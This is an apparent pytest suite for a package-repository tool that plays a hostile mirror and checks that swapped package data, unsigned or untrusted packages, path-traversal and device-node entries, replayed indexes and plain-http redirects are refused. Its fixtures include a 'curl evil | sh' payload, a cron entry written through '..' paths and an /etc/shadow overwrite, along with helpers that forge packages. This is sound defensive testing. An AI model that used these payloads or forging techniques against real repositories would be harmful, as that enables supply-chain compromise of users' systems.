"""A hostile mirror or uploader against what is read from and written to repositories.

Each test performs the attack: a package whose data part was swapped under a validly signed
index, packages without a datahash, unsafe or untrusted packages handed to ``publish``, an older
signed index replayed by a mirror, a redirect to plain http, and a publisher killed mid-write.
"""

from __future__ import annotations

import hashlib
import http.server
import os
import shutil
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple

import pytest

from nanodistro.builder.environment import PackageSources, assemble_root
from nanodistro.errors import (
    ChecksumError,
    FetchError,
    RepositoryError,
    SignatureError,
    UnsafePathError,
)
from nanodistro.formats.apk import read_apk, write_apk
from nanodistro.formats.apkindex import read_index, write_index
from nanodistro.formats.pkginfo import PackageInfo, format_pkginfo
from nanodistro.formats.signature import SigningKey, signature_member
from nanodistro.formats.tarball import TarEntry, gzip_member, gzip_members, write_tar
from nanodistro.image.build import BuildRequest, build_image
from nanodistro.imageconfig import load_config
from nanodistro.repo import publish, reindex
from nanodistro.repo.leftovers import LEFTOVER
from nanodistro.resolve import RepositoryClient, RepositoryRef, parse_repository, solve
from nanodistro.resolve.replay import IndexMark, downgrade_reason
from signing_keys import make_key

ARCH = "x86_64"
EPOCH = 1_700_000_000


# ---- packages --------------------------------------------------------------------------------


def info_for(name: str, version: str = "1.0-r0", builddate: int = EPOCH) -> PackageInfo:
    return PackageInfo(
        name=name, version=version, arch=ARCH, license="MIT", description=name, builddate=builddate
    )


def genuine(name: str, key: SigningKey, version: str = "1.0-r0", builddate: int = EPOCH) -> bytes:
    # Incompressible content: a swapped data member of the same length has about the same size.
    payload = hashlib.sha256(name.encode()).digest() * 128
    entries = [
        TarEntry("usr", "dir", mode=0o755, mtime=builddate),
        TarEntry(f"usr/{name}", "file", mode=0o644, mtime=builddate, data=payload),
    ]
    return write_apk(
        info_for(name, version, builddate), entries, key=key, source_date_epoch=builddate
    )


def swap_data(apk: bytes, content: bytes) -> bytes:
    """Same signature and control members (same index identity), another data member, padded
    with the NULs gzip readers skip so the file keeps the size the index records."""
    members = gzip_members(apk, where="apk")
    head = apk[: members[2].offset]
    path = next(e for e in read_apk(apk, where="apk").entries if e.type == "file").path
    tar = write_tar(
        [TarEntry(path, "file", mode=0o644, mtime=EPOCH, data=content)],
        end_of_archive=True,
        apk_checksums=True,  # per-file SHA-1s are right: only the datahash can tell
    )
    swapped = head + gzip_member(tar)
    assert len(swapped) <= len(apk)
    return swapped + b"\0" * (len(apk) - len(swapped))


def unsigned(apk: bytes) -> bytes:
    """The package without its signature member."""
    return apk[gzip_members(apk, where="apk")[1].offset :]


def forge(
    info: PackageInfo,
    entries: list[TarEntry],
    key: SigningKey | None,
    *,
    datahash: bool = True,
) -> bytes:
    """An APK assembled by hand, without the writer's safety checks (what an attacker ships)."""
    data = gzip_member(write_tar(entries, end_of_archive=True, apk_checksums=True))
    meta = info.copy()
    meta.datahash = hashlib.sha256(data).hexdigest() if datahash else None
    pkginfo = format_pkginfo(meta).encode()
    control = gzip_member(
        write_tar(
            [TarEntry(".PKGINFO", "file", mode=0o644, mtime=EPOCH, data=pkginfo)],
            end_of_archive=False,
        )
    )
    if key is None:
        return control + data
    signed = control if datahash else control + data
    return signature_member(key, signed, mtime=EPOCH) + control + data


def write_repo(root: Path, packages: dict[str, bytes], key: SigningKey) -> Path:
    """``root/x86_64/`` with the files and an index signed by ``key`` (a repository as a
    mirror serves it: anything in it, validly signed)."""
    arch_dir = root / ARCH
    arch_dir.mkdir(parents=True, exist_ok=True)
    infos = []
    for data in packages.values():
        info = read_apk(data, where="pkg").info
        (arch_dir / info.filename).write_bytes(data)
        infos.append(info)
    (arch_dir / "APKINDEX.tar.gz").write_bytes(write_index(infos, key=key, source_date_epoch=EPOCH))
    return root


def snapshot(root: Path) -> dict[str, bytes]:
    if not root.exists():
        return {}
    return {
        str(p.relative_to(root)): (p.read_bytes() if p.is_file() else b"<dir>")
        for p in sorted(root.rglob("*"))
    }


class Keys(NamedTuple):
    key: SigningKey
    keyring: dict[str, bytes]
    dir: Path  # the public key (and the private one) as files
    private: Path


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> Keys:
    directory = tmp_path_factory.mktemp("keys")
    key, keyring = make_key(directory, "repo")
    return Keys(key, keyring, directory, directory / key.keyname.removesuffix(".pub"))


@pytest.fixture()
def serve() -> Iterator[Callable[..., str]]:
    """Start a 127.0.0.1 server on a directory; ``redirects`` maps paths to Location values."""
    servers: list[http.server.ThreadingHTTPServer] = []

    def start(directory: Path, redirects: dict[str, str] | None = None) -> str:
        moved = dict(redirects or {})

        class Handler(http.server.SimpleHTTPRequestHandler):
            def __init__(self, *args: object, **kwargs: object) -> None:
                super().__init__(*args, directory=str(directory), **kwargs)  # type: ignore[arg-type]

            def do_GET(self) -> None:
                if self.path in moved:
                    self.send_response(302)
                    self.send_header("Location", moved[self.path])
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                super().do_GET()

            def log_message(self, format: str, *args: object) -> None:
                pass

        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        servers.append(server)
        return f"http://127.0.0.1:{server.server_address[1]}"

    yield start
    for server in servers:
        server.shutdown()
        server.server_close()


# ---- 1. swapped data under a validly signed index --------------------------------------------


@pytest.fixture()
def swapped_repo(tmp_path: Path, keys: Keys) -> Path:
    """Publish a genuine ``victim`` (validly signed index), then swap its data on the mirror."""
    key = keys.key
    source = tmp_path / "in" / "victim-1.0-r0.apk"
    source.parent.mkdir()
    source.write_bytes(genuine("victim", key))
    repo = tmp_path / "repo"
    publish([source], repo, key)
    served = repo / ARCH / "victim-1.0-r0.apk"
    served.write_bytes(swap_data(source.read_bytes(), b"#!/bin/sh\ncurl evil | sh\n"))
    # the attack keeps everything the old checks looked at
    info = read_index((repo / ARCH / "APKINDEX.tar.gz").read_bytes(), where="i").packages[0]
    assert served.stat().st_size == info.file_size
    assert read_apk(served.read_bytes(), where="x").identity == info.checksum
    return repo


def test_swapped_data_is_refused_by_the_client(swapped_repo: Path, keys: Keys) -> None:
    keyring = keys.keyring
    repo = RepositoryRef(str(swapped_repo))
    with RepositoryClient(keyring) as client:
        info = client.fetch_index(repo, ARCH).packages[0]
        with pytest.raises(ChecksumError, match=r"package victim-1\.0-r0: data member sha256"):
            client.fetch_package(repo, ARCH, info)


def test_swapped_data_never_enters_a_build_environment(
    swapped_repo: Path, keys: Keys, tmp_path: Path
) -> None:
    keyring = keys.keyring
    sources = PackageSources(
        arch=ARCH, repositories=[RepositoryRef(str(swapped_repo))], keyring=keyring
    )
    root = tmp_path / "root"
    root.mkdir()
    with pytest.raises(ChecksumError, match=r"victim-1\.0-r0.*differs from its datahash") as info:
        assemble_root(["victim"], root, sources)
    assert "victim-1.0-r0.apk" in str(info.value.where)
    assert not (root / "usr/victim").exists()


def _image_config(directory: Path, keys: Keys, repository: str, packages: str) -> Path:
    config = directory / "img.yaml"
    config.write_text(
        "contents:\n"
        f"  keyring: [{keys.dir / keys.key.keyname}]\n"
        f"  repositories: ['{repository}']\n"
        f"  packages: [{packages}]\n"
        "archs: [amd64]\n"
    )
    return config


def test_swapped_data_never_enters_an_image(swapped_repo: Path, keys: Keys, tmp_path: Path) -> None:
    config = _image_config(tmp_path, keys, str(swapped_repo), "victim")
    with pytest.raises(ChecksumError, match="datahash") as info:
        build_image(BuildRequest(loaded=load_config(config), source_date_epoch=0))
    assert "victim-1.0-r0.apk" in str(info.value.where)


# ---- 1b. packages without a datahash: refused unless the repository is legacy ----------------


@pytest.fixture()
def legacy_repo(tmp_path: Path, keys: Keys) -> Path:
    """An old-style repository: a package without datahash (signature over control + data)."""
    key = keys.key
    entries = [TarEntry("usr", "dir", mode=0o755), TarEntry("usr/old", "file", data=b"old\n")]
    old = forge(info_for("oldpkg"), entries, key, datahash=False)
    assert read_apk(old, where="old").info.datahash is None
    return write_repo(tmp_path / "legacy", {"oldpkg": old}, key)


def test_package_without_datahash_needs_a_legacy_repository(legacy_repo: Path, keys: Keys) -> None:
    keyring = keys.keyring
    plain = parse_repository(str(legacy_repo))
    marked = parse_repository(f"legacy:{legacy_repo}")
    assert (plain.legacy, marked.legacy, marked.url) == (False, True, str(legacy_repo))
    assert parse_repository(f"@old legacy:{legacy_repo}/") == RepositoryRef(
        str(legacy_repo), "old", legacy=True
    )
    with RepositoryClient(keyring) as client:
        info = client.fetch_index(plain, ARCH).packages[0]
        with pytest.raises(ChecksumError, match=r"package oldpkg-1\.0-r0 has no datahash"):
            client.fetch_package(plain, ARCH, info)
        assert client.fetch_package(marked, ARCH, info)  # the user said so


def test_image_build_refuses_a_package_without_datahash(
    legacy_repo: Path, keys: Keys, tmp_path: Path
) -> None:
    config = _image_config(tmp_path, keys, str(legacy_repo), "oldpkg")
    with pytest.raises(ChecksumError, match=r"oldpkg-1\.0-r0 has no datahash") as info:
        build_image(BuildRequest(loaded=load_config(config), source_date_epoch=0))
    assert "oldpkg-1.0-r0.apk" in str(info.value.where)
    # marked legacy, written relative to the config as apko configs do
    shutil.move(legacy_repo, tmp_path / "legacy-repo")
    legacy = _image_config(tmp_path, keys, "legacy:./legacy-repo", "oldpkg")
    result = build_image(BuildRequest(loaded=load_config(legacy), source_date_epoch=0))
    assert [f.apk.name for f in result.fetched["x86_64"]] == ["oldpkg"]
    # the marker is ours: the image's /etc/apk/repositories is plain apk-tools syntax
    written = result.images[0].root.fs.read("etc/apk/repositories")
    assert written == b"./legacy-repo\n"


# ---- 2. publish admits only trusted, intact, safe packages ----------------------------------


def _unsafe(name: str, entries: list[TarEntry], key: SigningKey) -> bytes:
    return forge(info_for(name), entries, key)


HOSTILE: dict[str, tuple[Callable[[SigningKey, SigningKey], bytes], type[Exception], str]] = {
    "unsigned": (
        lambda key, other: unsigned(genuine("unsigned", key)),
        SignatureError,
        "not signed",
    ),
    "foreign": (lambda key, other: genuine("foreign", other), SignatureError, "UNTRUSTED"),
    "dotdot": (
        lambda key, other: _unsafe(
            "dotdot", [TarEntry("usr/../../etc/cron.d/x", data=b"* * * * * root sh\n")], key
        ),
        UnsafePathError,
        "contains '..'",
    ),
    "absolute": (
        lambda key, other: _unsafe("absolute", [TarEntry("/etc/shadow", data=b"root::0:\n")], key),
        UnsafePathError,
        "is absolute",
    ),
    "escaping-symlink": (
        lambda key, other: _unsafe(
            "escaping", [TarEntry("usr/x", "symlink", linkname="../../../host")], key
        ),
        UnsafePathError,
        "points outside the root",
    ),
    "outside-hardlink": (
        lambda key, other: _unsafe(
            "hardlink", [TarEntry("usr/shadow", "hardlink", linkname="etc/shadow")], key
        ),
        UnsafePathError,
        "does not name an earlier file",
    ),
    "device": (
        lambda key, other: _unsafe(
            "device", [TarEntry("dev/sda", "blk", devmajor=8, devminor=0)], key
        ),
        UnsafePathError,
        "device node",
    ),
    "swapped-data": (
        lambda key, other: swap_data(genuine("swapped", key), b"evil\n"),
        ChecksumError,
        "does not match datahash",
    ),
    "no-datahash": (
        lambda key, other: forge(
            info_for("nodatahash"), [TarEntry("a", data=b"a")], key, datahash=False
        ),
        ChecksumError,
        "has no datahash",
    ),
}


@pytest.mark.parametrize("attack", sorted(HOSTILE))
def test_publish_refuses_hostile_packages_and_writes_nothing(
    attack: str, keys: Keys, tmp_path: Path
) -> None:
    key = keys.key
    other, _ = make_key(tmp_path / "other", "other")
    make, error, message = HOSTILE[attack]
    data = make(key, other)
    repo = tmp_path / "repo"
    good = tmp_path / "in" / "good-1.0-r0.apk"
    good.parent.mkdir()
    good.write_bytes(genuine("good", key))
    publish([good], repo, key)
    before = snapshot(repo)
    hostile = tmp_path / "in" / f"{attack}.apk"
    hostile.write_bytes(data)
    with pytest.raises(error, match=message) as info:
        publish([good, hostile], repo, key)
    assert info.value.where == str(hostile)  # type: ignore[attr-defined]
    assert snapshot(repo) == before  # atomic: byte-identical, nothing half-published
    # the same package dropped into the arch directory is not signed by `index` either
    shutil.copy(hostile, repo / ARCH / hostile.name)
    with pytest.raises(error, match=message):
        reindex(repo / ARCH, key)
    (repo / ARCH / hostile.name).unlink()
    assert snapshot(repo) == before


def test_publish_cli_without_keyring_refuses_foreign_packages(keys: Keys, tmp_path: Path) -> None:
    other, _ = make_key(tmp_path / "other", "other")
    foreign = tmp_path / "foreign-1.0-r0.apk"
    foreign.write_bytes(genuine("foreign", other))
    repo = tmp_path / "repo"
    args = [sys.executable, "-m", "nanodistro", "publish", str(foreign), "--repo", str(repo)]
    done = subprocess.run(
        [*args, "--key", str(keys.private)], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 1
    assert done.stderr.startswith(f"error: {foreign}: UNTRUSTED"), done.stderr
    assert not (repo / ARCH).exists()
    # trusting the other key explicitly admits it
    trusted = [*args, "--key", str(keys.private), "--keyring", str(tmp_path / "other")]
    done = subprocess.run(trusted, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr


# ---- 3. replayed older index ----------------------------------------------------------------


def test_replayed_older_index_is_refused(serve, keys: Keys, tmp_path: Path) -> None:
    key, keyring = keys.key, keys.keyring
    www = tmp_path / "www"
    repo = www / "repo"
    first = tmp_path / "in" / "app-1.0-r0.apk"
    first.parent.mkdir()
    first.write_bytes(genuine("app", key, "1.0-r0", EPOCH))
    publish([first], repo, key)
    old_index = (repo / ARCH / "APKINDEX.tar.gz").read_bytes()
    fixed = tmp_path / "in" / "app-1.1-r0.apk"
    fixed.write_bytes(genuine("app", key, "1.1-r0", EPOCH + 86400))
    publish([fixed], repo, key)
    url = f"{serve(www)}/repo"
    ref = RepositoryRef(url)
    state = tmp_path / "state" / "index-state.json"

    with RepositoryClient(keyring, index_state=state) as client:
        universe = client.load_universe([ref], ARCH)
        assert solve(universe, ["app"]).packages[0].version == "1.1-r0"
    assert state.is_file()

    (repo / ARCH / "APKINDEX.tar.gz").write_bytes(old_index)  # the mirror replays the old one
    assert read_index(old_index, where="old", keyring=keyring)  # still validly signed
    with (
        RepositoryClient(keyring, index_state=state) as client,
        pytest.raises(RepositoryError, match="refusing an older index") as info,
    ):
        client.fetch_index(ref, ARCH)
    assert info.value.where == f"{url}/{ARCH}/APKINDEX.tar.gz"
    assert "--allow-downgrade" in str(info.value)

    with RepositoryClient(keyring, index_state=state, allow_downgrade=True) as client:
        universe = client.load_universe([ref], ARCH)
        assert solve(universe, ["app"]).packages[0].version == "1.0-r0"


def test_replay_cli_flag_and_default_state(serve, keys: Keys, tmp_path: Path, _index_state) -> None:
    key, key_dir = keys.key, keys.dir
    www = tmp_path / "www"
    repo = www / "repo"
    pkgs = []
    for version, date in (("1.0-r0", EPOCH), ("2.0-r0", EPOCH + 10)):
        path = tmp_path / "in" / f"tool-{version}.apk"
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(genuine("tool", key, version, date))
        pkgs.append(path)
    publish(pkgs[:1], repo, key)
    old_index = (repo / ARCH / "APKINDEX.tar.gz").read_bytes()
    publish(pkgs[1:], repo, key)
    url = f"{serve(www)}/repo"
    base = [sys.executable, "-m", "nanodistro", "resolve", "tool", "-r", url, "-k", str(key_dir)]
    env = {**os.environ}  # NANODISTRO_INDEX_STATE from conftest: the default location's stand-in

    def run(*extra: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([*base, *extra], capture_output=True, text=True, env=env, timeout=120)

    assert "tool (2.0-r0)" in run().stdout
    assert _index_state.is_file()
    (repo / ARCH / "APKINDEX.tar.gz").write_bytes(old_index)
    refused = run()
    assert refused.returncode == 1
    assert f"{url}/{ARCH}/APKINDEX.tar.gz: refusing an older index" in refused.stderr
    accepted = run("--allow-downgrade")
    assert accepted.returncode == 0, accepted.stderr
    assert "tool (1.0-r0)" in accepted.stdout


def test_image_build_refuses_a_replayed_index_unless_allowed(
    serve, keys: Keys, tmp_path: Path
) -> None:
    key = keys.key
    www = tmp_path / "www"
    repo = www / "repo"
    for version, date in (("1.0-r0", EPOCH), ("1.1-r0", EPOCH + 60)):
        path = tmp_path / "in" / f"zlib-{version}.apk"
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(genuine("zlib", key, version, date))
        publish([path], repo, key)
        if version == "1.0-r0":
            old_index = (repo / ARCH / "APKINDEX.tar.gz").read_bytes()
    config = _image_config(tmp_path, keys, f"{serve(www)}/repo", "zlib")

    def build(**kwargs: bool) -> str:
        request = BuildRequest(loaded=load_config(config), source_date_epoch=0, **kwargs)
        return build_image(request).fetched["x86_64"][0].apk.version

    assert build() == "1.1-r0"
    (repo / ARCH / "APKINDEX.tar.gz").write_bytes(old_index)
    with pytest.raises(RepositoryError, match="refusing an older index"):
        build()
    assert build(allow_downgrade=True) == "1.0-r0"


@pytest.mark.parametrize("command", [["resolve"], ["build"], ["image", "build"]])
def test_allow_downgrade_is_offered(command: list[str]) -> None:
    from typer.testing import CliRunner

    from nanodistro.cli import app

    result = CliRunner().invoke(app, [*command, "--help"], terminal_width=200)
    assert result.exit_code == 0 and "--allow-downgrade" in result.output


def test_downgrade_rule() -> None:
    old = IndexMark(100, {"a": "1.1-r0", "b": "2.0-r0"})
    assert downgrade_reason(old, IndexMark(99, {"a": "9.0-r0"})) is not None  # older
    assert downgrade_reason(old, IndexMark(100, {"a": "1.1-r0", "b": "2.0-r0"})) is None
    assert downgrade_reason(old, IndexMark(100, {"a": "1.1-r0"})) is None  # b withdrawn
    same_time = downgrade_reason(old, IndexMark(100, {"a": "1.0-r0", "b": "2.0-r0"}))
    assert same_time is not None and "a went back from 1.1-r0 to 1.0-r0" in same_time
    assert downgrade_reason(old, IndexMark(101, {"a": "1.0-r0"})) is None  # newer index


def test_local_repositories_are_not_replay_checked(keys: Keys, tmp_path: Path) -> None:
    # A local folder is the user's own; removing a package and reindexing is legitimate.
    key, keyring = keys.key, keys.keyring
    state = tmp_path / "state.json"
    repo = write_repo(tmp_path / "r", {"a": genuine("a", key)}, key)
    with RepositoryClient(keyring, index_state=state) as client:
        client.fetch_index(RepositoryRef(str(repo)), ARCH)
    assert not state.exists()


# ---- 5. redirects are held to the plain-http rule -------------------------------------------


def test_redirect_to_plain_http_elsewhere_is_refused(serve, keys: Keys, tmp_path: Path) -> None:
    key, keyring = keys.key, keys.keyring
    www = tmp_path / "www"
    write_repo(www / "repo", {"a": genuine("a", key)}, key)
    target = "http://example.invalid/repo/x86_64/APKINDEX.tar.gz"
    url = serve(www, {"/evil/x86_64/APKINDEX.tar.gz": target})
    with (
        RepositoryClient(keyring) as client,
        pytest.raises(FetchError, match="refusing plain http to a non-loopback host") as info,
    ):
        client.fetch_index(RepositoryRef(f"{url}/evil"), ARCH)
    assert info.value.where == target
    assert f"redirected from {url}/evil/x86_64/APKINDEX.tar.gz" in str(info.value)
    # a redirect that stays on loopback is followed
    moved = serve(www, {"/moved/x86_64/APKINDEX.tar.gz": f"{url}/repo/x86_64/APKINDEX.tar.gz"})
    with RepositoryClient(keyring) as client:
        assert client.fetch_index(RepositoryRef(f"{moved}/moved"), ARCH).packages[0].name == "a"


def test_redirect_loop_is_bounded(serve, keys: Keys, tmp_path: Path) -> None:
    keyring = keys.keyring
    url = serve(tmp_path, {"/loop/x86_64/APKINDEX.tar.gz": "/loop/x86_64/APKINDEX.tar.gz"})
    with RepositoryClient(keyring) as client, pytest.raises(FetchError, match="redirects"):
        client.fetch_index(RepositoryRef(f"{url}/loop"), ARCH)


# ---- 4. a crashed publish leaves no temp files for good --------------------------------------

CRASHING_PUBLISH = """
import os, sys
from pathlib import Path
import nanodistro.util.atomic as atomic
from nanodistro.repo import publish
from nanodistro.trust.keys import load_signing_key

def crash(src, dst):
    if str(dst).endswith(".apk"):
        os._exit(9)  # killed after the package was fully written, before the rename
    return real(src, dst)

real = os.replace
atomic.os.replace = crash
publish([Path(sys.argv[1])], Path(sys.argv[2]), load_signing_key(Path(sys.argv[3])))
"""


def test_next_publish_removes_a_crashed_publishers_leftovers(keys: Keys, tmp_path: Path) -> None:
    key, keyring = keys.key, keys.keyring
    repo = tmp_path / "repo"
    first = tmp_path / "in" / "first-1.0-r0.apk"
    first.parent.mkdir()
    first.write_bytes(genuine("first", key))
    publish([first], repo, key)
    big = tmp_path / "in" / "big-1.0-r0.apk"
    big.write_bytes(genuine("big", key))
    crashed = subprocess.run(
        [sys.executable, "-c", CRASHING_PUBLISH, str(big), str(repo), str(keys.private)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert crashed.returncode == 9, crashed.stderr
    leftovers = [p for p in (repo / ARCH).iterdir() if LEFTOVER.match(p.name)]
    assert len(leftovers) == 1 and leftovers[0].read_bytes() == big.read_bytes()
    unrelated = repo / ARCH / ".notes.tmp"  # not our pattern: never touched
    unrelated.write_text("keep")

    second = tmp_path / "in" / "second-1.0-r0.apk"
    second.write_bytes(genuine("second", key))
    done = subprocess.run(
        [sys.executable, "-m", "nanodistro", "publish", str(second), str(big),
         "--repo", str(repo), "--key", str(keys.private)],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert f"removed {ARCH}/{leftovers[0].name}" in done.stderr
    assert not leftovers[0].exists() and unrelated.exists()
    names = sorted(p.name for p in (repo / ARCH).iterdir() if not p.name.startswith("."))
    assert names == ["APKINDEX.tar.gz", "big-1.0-r0.apk", "first-1.0-r0.apk", "second-1.0-r0.apk"]
    index = read_index((repo / ARCH / "APKINDEX.tar.gz").read_bytes(), where="i", keyring=keyring)
    assert sorted(p.name for p in index.packages) == ["big", "first", "second"]


def test_a_live_temp_file_newer_than_the_process_is_kept(keys: Keys, tmp_path: Path) -> None:
    # Only leftovers older than this process are removed (a publisher that did not take the
    # lock may still be writing a newer one).
    key = keys.key
    repo = tmp_path / "repo"
    (repo / ARCH).mkdir(parents=True)
    live = repo / ARCH / ".x-1.0-r0.apk.abcd1234.tmp"
    live.write_bytes(b"in progress")
    stale = repo / ARCH / ".y-1.0-r0.apk.efgh5678.tmp"
    stale.write_bytes(b"crashed")
    os.utime(stale, (EPOCH, EPOCH))
    pkg = tmp_path / "z-1.0-r0.apk"
    pkg.write_bytes(genuine("z", key))
    publish([pkg], repo, key)
    assert live.exists() and not stale.exists()
